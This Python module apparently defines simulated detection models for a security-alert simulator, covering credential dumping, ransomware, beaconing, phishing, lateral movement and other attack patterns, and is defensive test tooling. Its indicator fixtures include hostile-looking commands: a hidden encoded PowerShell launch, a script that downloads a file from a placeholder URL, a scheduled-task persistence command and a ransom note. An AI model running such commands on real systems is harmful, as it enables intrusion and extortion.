r"""The detection models that a story can raise alerts of, as a table.

Texts may name what is drawn for each alert: {host}, {user}, {account}, {mail}, {domain}, {url}, {ip}, {sha1},
{sha256}, {pid}, {container}, {identity}, {other_host}.
"""

from dataclasses import dataclass, replace
from typing import ClassVar, Literal, TypeAlias

from pydantic import ConfigDict

from visionone_sim.tenant.endpoints import OsName, ProductCode

Severity: TypeAlias = Literal["low", "medium", "high", "critical"]
EntityType: TypeAlias = Literal["host", "account", "emailAddress", "container", "cloudIdentity"]


class Strict:
    """What a scenario's file may hold and nothing else."""

    __slots__ = ()
    __pydantic_config__: ClassVar[ConfigDict] = ConfigDict(extra="forbid")


@dataclass(frozen=True, slots=True)
class Trace(Strict):
    """One indicator of an alert: its type, the telemetry field that it was seen in, its value."""

    type: str
    field: str
    value: str


@dataclass(frozen=True, slots=True)
class Leftover(Strict):
    """A file that the attack leaves on its host; without a text it is a memory dump."""

    path: str
    text: str | None = None


@dataclass(frozen=True, slots=True)
class Bait(Strict):
    """A message that the attack sent to several mailboxes."""

    subject: str
    sender: str
    message_id: str
    url: str
    mailboxes: int = 3


@dataclass(frozen=True, slots=True, kw_only=True)
class DetectionModel(Strict):
    key: str
    name: str
    severity: Severity
    description: str
    rule: str
    techniques: tuple[str, ...]
    event_type: str
    entities: tuple[EntityType, ...]
    traces: tuple[Trace, ...]
    leftovers: tuple[Leftover, ...] = ()
    program: str | None = None
    """The path of a program that runs on the endpoint until somebody ends it."""
    message: Bait | None = None
    tactics: tuple[str, ...] = ()
    os_names: tuple[OsName, ...] = ("Windows",)
    product_codes: tuple[ProductCode, ...] = ("xes", "sao", "sds")


DUMP_PATH = r"C:\Users\{user}\AppData\Local\Temp\lsass.DMP"
SECOND_DUMP_PATH = r"C:\Users\{user}\AppData\Local\Temp\lsass (2).DMP"
NOTE_PATH = r"C:\Users\{user}\Documents\HOW_TO_RESTORE_{pid}.txt"
SCRIPT_PATH = r"C:\Users\{user}\AppData\Roaming\updater_{pid}.ps1"

CREDENTIAL_DUMPING = DetectionModel(
    key="credential-dumping",
    program=r"C:\Windows\System32\Taskmgr.exe",
    tactics=("TA0006",),
    name="LSASS Memory Dump by Task Manager",
    severity="critical",
    description="Task Manager wrote the memory of the process that holds the secrets of logged-on users to a file.",
    rule="Credential Dumping from the Security Authority Process",
    techniques=("T1003.001", "V9.T1003.001"),
    event_type="TELEMETRY_FILE",
    entities=("host", "account"),
    traces=(
        Trace("command_line", "processCmd", r'"C:\Windows\System32\Taskmgr.exe" /7'),
        Trace("fullpath", "processFilePath", r"C:\Windows\System32\Taskmgr.exe"),
        Trace("fullpath", "objectFilePath", DUMP_PATH),
        Trace("filename", "objectName", "lsass.DMP"),
        Trace("process_id", "processPid", "{pid}"),
        Trace("user_account", "logonUser", "{account}"),
    ),
    leftovers=(Leftover(DUMP_PATH),),
    product_codes=("xes",),
)

OTHERS = (
    DetectionModel(
        key="ransom-note",
        program=r"C:\ProgramData\svc{pid}.exe",
        tactics=("TA0040",),
        name="Ransom Notes Written to Many Folders",
        severity="critical",
        description="One process wrote the same text to dozens of folders while it renamed the files next to it.",
        rule="Mass Encryption of Documents",
        techniques=("T1486", "V9.T1486"),
        event_type="TELEMETRY_FILE",
        entities=("host", "account"),
        traces=(
            Trace("fullpath", "objectFilePath", NOTE_PATH),
            Trace("command_line", "processCmd", r"C:\ProgramData\svc{pid}.exe -p D:\shares -q"),
            Trace("file_sha256", "processFileHashSha256", "{sha256}"),
            Trace("file_sha1", "processFileHashSha1", "{sha1}"),
        ),
        leftovers=(Leftover(NOTE_PATH, "Your files are locked. Write to {mail} and name {pid}.\n"),),
    ),
    DetectionModel(
        key="beacon",
        program=r"C:\ProgramData\Sync\agent{pid}.exe",
        tactics=("TA0011",),
        name="Regular Contact with a Rare Domain",
        severity="high",
        description="A process contacts a domain that nobody else in the company knows, at almost equal intervals.",
        rule="Command and Control over Web Protocols",
        techniques=("T1071.001", "V9.T1071.001"),
        event_type="TELEMETRY_CONNECTION",
        entities=("host",),
        traces=(
            Trace("domain", "request", "{domain}"),
            Trace("ip", "dst", "{ip}"),
            Trace("port", "dpt", "443"),
            Trace("fullpath", "processFilePath", r"C:\ProgramData\Sync\agent{pid}.exe"),
            Trace("file_sha1", "processFileHashSha1", "{sha1}"),
        ),
    ),
    DetectionModel(
        key="script",
        program=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        tactics=("TA0002",),
        name="Encoded Script Started by an Office Document",
        severity="medium",
        description="A word processor started a hidden shell with an encoded script.",
        rule="Obfuscated Script Execution",
        techniques=("T1059.001", "T1027"),
        event_type="TELEMETRY_PROCESS",
        entities=("host", "account"),
        traces=(
            Trace("command_line", "objectCmd", "powershell.exe -nop -w hidden -enc SQBFAFgA{pid}"),
            Trace("command_line", "parentCmd", r'WINWORD.EXE /n "C:\Users\{user}\Downloads\invoice_{pid}.docm"'),
            Trace("fullpath", "objectFilePath", SCRIPT_PATH),
        ),
        leftovers=(Leftover(SCRIPT_PATH, "$u = '{url}'\nInvoke-WebRequest $u -OutFile $env:TEMP\\s.bin\n"),),
    ),
    DetectionModel(
        key="phishing-click",
        tactics=("TA0001",),
        name="Link in a Phishing Message Followed",
        severity="medium",
        description="A person followed a link in a message that asks for a password on a page made yesterday.",
        rule="Spearphishing Link",
        techniques=("T1566.002",),
        event_type="MESSAGE_ACTIVITY_LOG",
        entities=("emailAddress", "account"),
        traces=(
            Trace("url", "mailUrl", "{url}"),
            Trace("email_sender", "mailFromAddress", "billing@{domain}"),
            Trace("email_message_id", "mailMsgId", "<{pid}.{sha1}@{domain}>"),
        ),
        message=Bait("Your password expires today", "billing@{domain}", "<{pid}.{sha1}@{domain}>", "{url}"),
    ),
    DetectionModel(
        # Mentions lsass.exe but is no credential dumping: a check for the word alone would match it.
        key="masquerade",
        program=r"C:\Users\{user}\AppData\Local\lsass.exe",
        tactics=("TA0005",),
        name="System Process Name Outside Its Folder",
        severity="high",
        description="A program named like the security authority, lsass.exe, runs from a user's folder.",
        rule="Masquerading as a System Process",
        techniques=("T1036.005", "V9.T1036.005"),
        event_type="TELEMETRY_PROCESS",
        entities=("host", "account"),
        traces=(
            Trace("fullpath", "processFilePath", r"C:\Users\{user}\AppData\Local\lsass.exe"),
            Trace("command_line", "processCmd", r"C:\Users\{user}\AppData\Local\lsass.exe -k netsvc"),
            Trace("file_sha1", "processFileHashSha1", "{sha1}"),
        ),
    ),
    DetectionModel(
        key="lateral-movement",
        program=r"C:\Windows\pxe{pid}.exe",
        tactics=("TA0008",),
        name="Service Installed from Another Workstation",
        severity="high",
        description="A workstation copied a program to an administrative share and started it as a service.",
        rule="Remote Service over Administrative Shares",
        techniques=("T1021.002", "T1569.002"),
        event_type="TELEMETRY_REGISTRY",
        entities=("host",),
        traces=(
            Trace("registry_key", "objectRegistryKeyHandle", r"HKLM\SYSTEM\CurrentControlSet\Services\pxe{pid}"),
            Trace("registry_value_data", "objectRegistryData", r"\\{other_host}\ADMIN$\pxe{pid}.exe"),
            Trace("host", "endpointHostName", "{other_host}"),
        ),
    ),
    DetectionModel(
        key="container-shell",
        tactics=("TA0002",),
        name="Interactive Shell in a Production Container",
        severity="medium",
        description="A shell with a terminal was opened in a container that has run unattended for weeks.",
        rule="Container Administration Command",
        techniques=("T1609",),
        event_type="CONTAINER_ACTIVITY_LOG",
        entities=("container",),
        traces=(
            Trace("command_line", "processCmd", "/bin/sh -i"),
            Trace("text", "containerName", "checkout-{pid}"),
        ),
    ),
    DetectionModel(
        key="impossible-travel",
        tactics=("TA0001",),
        name="Sign-in from Two Distant Places",
        severity="low",
        description="The same identity signed in from two continents within an hour.",
        rule="Cloud Account Use",
        techniques=("T1078.004",),
        event_type="IDENTITY_ACTIVITY_LOG",
        entities=("cloudIdentity",),
        traces=(Trace("ip", "src", "{ip}"), Trace("user_account", "principalName", "{identity}")),
    ),
    DetectionModel(
        key="forwarding-rule",
        tactics=("TA0009",),
        name="Mailbox Rule Forwards to an Outside Address",
        severity="medium",
        description="A new mailbox rule forwards every message that mentions payments to a free mail service.",
        rule="Email Forwarding Rule",
        techniques=("T1114.003",),
        event_type="MESSAGE_ACTIVITY_LOG",
        entities=("emailAddress",),
        traces=(
            Trace("email_sender", "mailToAddress", "archive{pid}@{domain}"),
            Trace("text", "ruleName", "Payments {pid}"),
        ),
    ),
    DetectionModel(
        key="brute-force",
        tactics=("TA0006",),
        name="Many Failed Logons, Then One That Worked",
        severity="low",
        description="Hundreds of failed logons over SSH from one address were followed by one that worked.",
        rule="Password Guessing",
        techniques=("T1110.001", "V9.T1110.001"),
        event_type="TELEMETRY_ACCOUNT",
        entities=("host", "account"),
        traces=(
            Trace("ip", "src", "{ip}"),
            Trace("port", "dpt", "22"),
            Trace("text", "logonFailures", "{pid}"),
        ),
        os_names=("Linux",),
    ),
    DetectionModel(
        key="scheduled-task",
        program=r"C:\Users\{user}\AppData\Local\Temp\u{pid}.exe",
        tactics=("TA0003",),
        name="Scheduled Task Starts from a Temporary Folder",
        severity="low",
        description="A task that starts each morning runs a program from a temporary folder.",
        rule="Scheduled Task",
        techniques=("T1053.005",),
        event_type="TELEMETRY_PROCESS",
        entities=("host", "account"),
        traces=(
            Trace(
                "command_line",
                "processCmd",
                r"schtasks /create /sc daily /tn Update{pid} /tr C:\Users\{user}\AppData\Local\Temp\u{pid}.exe",
            ),
            Trace("filename", "objectName", "u{pid}.exe"),
        ),
    ),
)

# Not part of any scenario: for tests of what happens when one host has several files to collect.
CREDENTIAL_DUMPING_TWICE = replace(
    CREDENTIAL_DUMPING,
    key="credential-dumping-twice",
    traces=(*CREDENTIAL_DUMPING.traces, Trace("fullpath", "objectFilePath", SECOND_DUMP_PATH)),
    leftovers=(*CREDENTIAL_DUMPING.leftovers, Leftover(SECOND_DUMP_PATH)),
)

MODELS: dict[str, DetectionModel] = {
    model.key: model for model in (CREDENTIAL_DUMPING, CREDENTIAL_DUMPING_TWICE, *OTHERS)
}
